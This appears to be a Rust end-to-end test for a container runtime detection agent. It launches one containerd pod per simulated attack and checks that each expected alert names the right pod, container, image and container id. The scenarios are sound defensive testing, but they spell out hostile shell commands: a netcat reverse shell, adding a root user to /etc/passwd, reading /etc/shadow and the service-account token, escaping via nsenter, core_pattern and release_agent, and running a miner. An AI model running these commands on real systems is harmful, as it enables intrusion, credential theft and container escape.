//! End-to-end test of `rampart agent` with real containers: one pod per attack plus a benign pod,
//! started through containerd's CRI, and a host process. Every expected alert must carry the
//! right pod, container, image and container id; the benign pod must cause none; no event may be
//! lost.
//!
//! Needs root, eBPF and a running containerd with the test image: run `scripts/agent-e2e.sh`,
//! which prepares them and runs this test. Without that environment the test FAILS (it is
//! ignored by default so ordinary `cargo test` runs do not need root).

use std::collections::HashMap;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use rampart_agent::testkit::{self, PodSpec};
use serde_json::Value;

const NS: &str = "rampart-e2e";
const IMAGE: &str = "rampart.test/busybox:1";

struct Scenario {
    pod: &'static str,
    script: String,
    expect: &'static [&'static str],
    privileged: bool,
    host_pid: bool,
    run_as_user: Option<i64>,
    mounts: Vec<(String, String, bool)>,
}

fn scenario(
    pod: &'static str,
    script: impl Into<String>,
    expect: &'static [&'static str],
) -> Scenario {
    Scenario {
        pod,
        script: script.into(),
        expect,
        privileged: false,
        host_pid: false,
        run_as_user: None,
        mounts: Vec::new(),
    }
}

fn scenarios(work: &Path, cri_socket: &str, shell_port: u16) -> Vec<Scenario> {
    let token = work.join("sa-token");
    let _ = std::fs::write(&token, "e2e-token-not-a-secret\n");
    vec![
        scenario("shell", "sh -c 'echo nested'; sleep 2", &["RMP8001"]),
        scenario("pkg", "dpkg --version >/dev/null 2>&1; apt-get update >/dev/null 2>&1; sleep 2", &["RMP8002"]),
        scenario("tmp-exec", "cp /bin/busybox /tmp/payload && /tmp/payload true; sleep 2", &["RMP8003"]),
        scenario("etc-write", "echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd; sleep 2", &["RMP8010"]),
        scenario("bin-write", "cp /bin/busybox /usr/bin/implant; sleep 2", &["RMP8011"]),
        scenario("shadow", "cat /etc/shadow >/dev/null; sleep 2", &["RMP8012"]),
        Scenario {
            mounts: vec![(token.display().to_string(), "/var/run/secrets/kubernetes.io/serviceaccount/token".into(), true)],
            ..scenario("token", "cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null; sleep 2", &["RMP8013"])
        },
        Scenario { privileged: true, host_pid: true, ..scenario("nsenter", format!("nsenter -t {} -m -- true; sleep 2", std::process::id()), &["RMP8020", "RMP8021"]) },
        scenario("unshare", "unshare -U true; sleep 2", &["RMP8022"]),
        scenario("mount-dev", "mkdir -p /tmp/d; mount -t ext4 -o ro /dev/null /tmp/d; sleep 2", &["RMP8023"]),
        scenario("mount-cg", "mkdir -p /tmp/cg; mount -t cgroup -o rdma cgroup /tmp/cg; sleep 2", &["RMP8024"]),
        scenario("release-agent", "echo /payload > /tmp/release_agent; sleep 2", &["RMP8025"]),
        scenario("core-pattern", "echo '|/payload' > /proc/sys/kernel/core_pattern; sleep 2", &["RMP8026"]),
        Scenario {
            mounts: vec![(cri_socket.to_string(), "/run/containerd/containerd.sock".into(), false)],
            ..scenario("runtime-sock", "cat /run/containerd/containerd.sock >/dev/null 2>&1; sleep 2", &["RMP8028"])
        },
        scenario("revshell", format!("nc 127.0.0.1 {shell_port} -e /bin/sh; sleep 1"), &["RMP8006", "RMP8007"]),
        scenario("miner", "xmrig -o stratum+tcp://127.0.0.1:3333 >/dev/null 2>&1; nc -w 1 127.0.0.1 3333 </dev/null; sleep 1", &["RMP8005", "RMP8041"]),
        Scenario { run_as_user: Some(1000), ..scenario("suid", "/usr/bin/suidbox true; sleep 2", &["RMP8030"]) },
        scenario("listener", "timeout 2 nc -l -p 45999; sleep 1", &["RMP8044", "RMP8004"]),
        scenario("benign", "echo hello > /tmp/greeting; ls / >/dev/null; sleep 2", &[]),
    ]
}

/// Stops the agent and removes the pods even when an assertion fails midway.
struct Cleanup<'a> {
    agent: Option<Child>,
    socket: &'a Path,
    pods: Vec<String>,
}

impl Drop for Cleanup<'_> {
    fn drop(&mut self) {
        if let Some(mut a) = self.agent.take() {
            let _ = a.kill();
            let _ = a.wait();
        }
        for id in &self.pods {
            if let Err(e) = testkit::remove_pod(self.socket, id) {
                eprintln!("warning: cannot remove pod {id}: {e}");
            }
        }
    }
}

/// Starts the agent and waits until it says it is watching; returns the metrics address.
// The caller owns the child and waits for it; on a failed start it is killed before the panic.
#[allow(clippy::zombie_processes)]
fn start_agent(out: &Path, socket: &str) -> (Child, String) {
    let mut child = Command::new(env!("CARGO_BIN_EXE_rampart"))
        .args([
            "agent",
            "--duration",
            "300s",
            "--metrics-listen",
            "127.0.0.1:0",
            "--cri-socket",
            socket,
            "--emit-events",
            "-o",
        ])
        .arg(out)
        .stderr(Stdio::piped())
        .spawn()
        .expect("cannot start rampart agent");
    let stderr = child.stderr.take().expect("agent stderr");
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        for line in BufReader::new(stderr).lines().map_while(Result::ok) {
            eprintln!("[agent] {line}");
            let _ = tx.send(line);
        }
    });
    let mut metrics = String::new();
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let line = rx
            .recv_timeout(deadline.saturating_duration_since(Instant::now()))
            .unwrap_or_else(|_| {
                let _ = child.kill();
                panic!("the agent did not start watching within 60 s (see its stderr above)")
            });
        if let Some(addr) = line.strip_prefix("serving metrics on http://") {
            metrics = addr.trim_end_matches("/metrics").to_string();
        }
        if line.contains("watching with") {
            return (child, metrics);
        }
    }
}

fn http_get(addr: &str, path: &str) -> String {
    let mut s = TcpStream::connect(addr).expect("metrics endpoint");
    let _ = write!(s, "GET {path} HTTP/1.0\r\nHost: {addr}\r\n\r\n");
    let mut body = String::new();
    let _ = s.read_to_string(&mut body);
    body
}

fn read_lines(path: &Path) -> Vec<Value> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

fn has_alert(lines: &[Value], rule: &str, pod: &str) -> bool {
    lines
        .iter()
        .any(|v| v["rule"] == rule && v["event"]["container"]["pod"] == pod)
}

#[test]
#[ignore = "needs root, eBPF and containerd: run scripts/agent-e2e.sh"]
fn agent_reports_each_attack_with_pod_attribution() {
    let socket = std::env::var("RAMPART_E2E_CRI_SOCKET")
        .expect("RAMPART_E2E_CRI_SOCKET is not set: run scripts/agent-e2e.sh (it starts containerd and imports the image)");
    // A build-time constant: checked at run time so the test fails (never skips) without eBPF.
    if !rampart_agent::kernel::BUILT_WITH_BPF {
        panic!("rampart was built without eBPF support: install clang, bpftool and libbpf-dev (scripts/install-agent-deps.sh) and rebuild");
    }
    let work = PathBuf::from(
        std::env::var("RAMPART_E2E_DIR").unwrap_or_else(|_| "/tmp/rampart-e2e".into()),
    );
    let out = work.join("alerts.jsonl");
    let logs = work.join("logs");
    let _ = std::fs::create_dir_all(&logs);

    // The reverse shell's listener: it tells the shell to exit.
    let listener = TcpListener::bind("127.0.0.1:0").expect("loopback listener");
    let shell_port = listener.local_addr().expect("port").port();
    std::thread::spawn(move || {
        if let Ok((mut s, _)) = listener.accept() {
            let _ = s.write_all(b"id\nexit\n");
            let _ = s.set_read_timeout(Some(Duration::from_secs(10)));
            let mut sink = Vec::new();
            let _ = s.read_to_end(&mut sink);
        }
    });

    let (agent, metrics_addr) = start_agent(&out, &socket);
    let sock = Path::new(&socket);
    let mut guard = Cleanup {
        agent: Some(agent),
        socket: sock,
        pods: Vec::new(),
    };
    let mut started: HashMap<&'static str, testkit::StartedPod> = HashMap::new();
    // RAMPART_E2E_ONLY=pod,pod narrows the run while debugging one scenario.
    let only = std::env::var("RAMPART_E2E_ONLY").unwrap_or_default();
    let all: Vec<Scenario> = scenarios(&work, &socket, shell_port)
        .into_iter()
        .filter(|s| only.is_empty() || only.split(',').any(|o| o == s.pod))
        .collect();
    for s in &all {
        let spec = PodSpec {
            namespace: NS.into(),
            name: s.pod.into(),
            container: format!("{}-c", s.pod),
            image: IMAGE.into(),
            command: vec!["/bin/sh".into(), "-c".into(), s.script.clone()],
            privileged: s.privileged,
            host_pid: s.host_pid,
            run_as_user: s.run_as_user,
            mounts: s.mounts.clone(),
            log_dir: logs.display().to_string(),
        };
        let pod = testkit::start_pod(sock, &spec)
            .unwrap_or_else(|e| panic!("cannot start pod {}: {e}", s.pod));
        guard.pods.push(pod.pod_id.clone());
        started.insert(s.pod, pod);
    }
    // A host process doing something the rules flag: it must be attributed to the host.
    let _ = Command::new("cat")
        .arg("/etc/shadow")
        .stdout(Stdio::null())
        .status();

    // Wait until every expected alert is in, or 60 s.
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let lines = read_lines(&out);
        let missing = all
            .iter()
            .flat_map(|s| s.expect.iter().map(move |r| (s.pod, *r)))
            .filter(|(p, r)| !has_alert(&lines, r, p))
            .count();
        if missing == 0 || Instant::now() > deadline {
            break;
        }
        std::thread::sleep(Duration::from_millis(500));
    }
    std::thread::sleep(Duration::from_secs(3));
    let metrics = http_get(&metrics_addr, "/metrics");

    let mut agent = guard.agent.take().expect("agent");
    let _ = Command::new("kill")
        .args(["-INT", &agent.id().to_string()])
        .status();
    let status = agent.wait().expect("agent exit");
    drop(guard);
    assert!(status.success(), "agent exited with {status}");

    let lines = read_lines(&out);
    let mut failures = Vec::new();
    for s in &all {
        let pod = &started[s.pod];
        for rule in s.expect {
            let hit = lines
                .iter()
                .find(|v| v["rule"] == *rule && v["event"]["container"]["pod"] == s.pod);
            let Some(hit) = hit else {
                failures.push(format!("{rule} not reported for pod {}", s.pod));
                continue;
            };
            let c = &hit["event"]["container"];
            let want = [
                ("namespace", NS.to_string()),
                ("name", format!("{}-c", s.pod)),
                ("image", IMAGE.to_string()),
                ("id", pod.container_id.clone()),
                ("runtime", "containerd".to_string()),
            ];
            for (k, v) in want {
                if c[k] != v.as_str() {
                    failures.push(format!(
                        "{rule} in pod {}: container.{k} = {} (want {v})",
                        s.pod, c[k]
                    ));
                }
            }
            if hit["object"]["name"] != s.pod
                || hit["object"]["namespace"] != NS
                || hit["category"] != "runtime"
            {
                failures.push(format!(
                    "{rule} in pod {}: object/category wrong: {hit}",
                    s.pod
                ));
            }
        }
    }
    for v in lines
        .iter()
        .filter(|v| v.get("rule").is_some() && v["event"]["container"]["pod"] == "benign")
    {
        failures.push(format!("benign pod reported: {v}"));
    }
    let host_shadow = lines.iter().any(|v| {
        v["rule"] == "RMP8012" && v["event"]["container"].is_null() && v["event"]["comm"] == "cat"
    });
    if !host_shadow {
        failures
            .push("host `cat /etc/shadow` not reported as a host process (container: null)".into());
    }
    let summary = lines
        .iter()
        .rev()
        .find_map(|v| v.get("summary"))
        .cloned()
        .unwrap_or(Value::Null);
    if summary["dropped"] != 0 || summary["events"].as_u64().unwrap_or(0) == 0 {
        failures.push(format!("bad summary: {summary}"));
    }
    if summary["alerts"].as_u64()
        != Some(
            lines
                .iter()
                .filter(|v| v.get("rule").is_some_and(|r| r != "RMP8099"))
                .count() as u64,
        )
    {
        failures.push(format!(
            "summary alerts do not match the alert lines: {summary}"
        ));
    }
    for needle in [
        "rampart_agent_events_total",
        "rampart_agent_dropped_events_total 0",
        "rampart_agent_alerts_total{rule=\"RMP8001\"",
    ] {
        if !metrics.contains(needle) {
            failures.push(format!("metrics lack `{needle}`"));
        }
    }
    let reported: usize = all.iter().map(|s| s.expect.len()).sum();
    eprintln!(
        "{} expected alerts over {} pods; summary {summary}",
        reported,
        all.len()
    );
    assert!(
        failures.is_empty(),
        "{} problems:\n{}",
        failures.len(),
        failures.join("\n")
    );
}
